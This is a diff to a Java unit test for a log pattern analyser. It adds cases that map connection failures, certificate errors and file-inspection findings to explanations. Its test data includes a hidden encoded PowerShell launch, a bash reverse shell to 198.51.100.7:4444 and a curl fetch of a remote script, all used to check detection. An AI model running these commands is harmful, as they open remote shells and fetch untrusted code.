@@ -62,7 +62,16 @@ class PatternAnalystTest {
                 "signal: SIGSEGV | native code",
                 "upstream answered HTTP/1.1 503 Service Unavailable | errors of its own",
                 "label alertname = KubeNodeNotReady | node of the cluster",
+                "x509: certificate signed by unknown authority | not trusted",
+                "{\"outcome\": \"failed\", \"reason\": \"CONNECTION_REFUSED\"} | Nothing listens",
+                "{\"outcome\":\"failed\",\"reason\":\"UNKNOWN_HOST\"} | cannot be resolved",
+                "{\"outcome\":\"failed\",\"reason\":\"TIMEOUT\"} | answer in time",
+                "{\"reason\":\"HTTP_STATUS\",\"status\":503} | errors of its own",
                 "{\"entropy\": 7.98, \"size\": 40960} | compressed or encrypted",
+                "{\"limits\": [], \"findings\": [\"HIGH_ENTROPY\"]} | compressed or encrypted",
+                "{\"findings\": [\"ENCODED_LAYERS\", \"SCRIPT\", \"DOWNLOADER\"]} | encoded layers",
+                "{\"findings\": [\"SCRIPT\", \"DOWNLOADER\"]} | run further code",
+                "{\"findings\": [\"EXECUTABLE\"]} | executable program",
                 "encoded run of 4096 characters at byte 12 | encoded layers",
                 "powershell.exe -nop -w hidden -enc SQBFAFgA | run further code",
                 "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 | run further code",
@@ -93,7 +102,9 @@ class PatternAnalystTest {
                 "deployed version 5.0.3 of orders; 500 pods ready",
                 "certificate renewed until 2027",
                 "curl -s http://198.51.100.7/x.sh",
-                "disk usage is 40 %"
+                "disk usage is 40 %",
+                "{\"tool\": \"serai-inspect/1\", \"entropy\": 4.2, \"layers\": [], \"findings\": []}",
+                "{\"outcome\":\"succeeded\",\"reason\":\"ANSWERED\",\"status\":200}"
             })
     void an_honest_answer_is_that_no_pattern_is_known(String text) {
         Analysis analysis = SHIPPED.analyse(List.of(Facts.log(text)), List.of("probe-service"));
